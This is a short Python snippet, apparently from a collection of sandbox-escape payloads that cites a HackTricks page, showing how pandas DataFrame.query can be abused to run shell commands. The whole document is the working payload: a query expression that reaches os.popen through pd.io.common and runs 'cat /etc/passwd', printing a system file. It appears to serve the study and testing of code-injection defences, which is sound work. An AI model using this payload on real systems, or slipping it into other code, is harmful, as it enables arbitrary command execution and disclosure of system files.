# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (Other libraries that allow to eval python code: pandas)
# Family: data-is-code
# What: DataFrame.query reaching pd.io.common.os.popen and reading the output
import pandas as pd

df = pd.DataFrame({"x": range(5)})
print(df.query("@pd.io.common.os.popen('cat /etc/passwd').read()"))
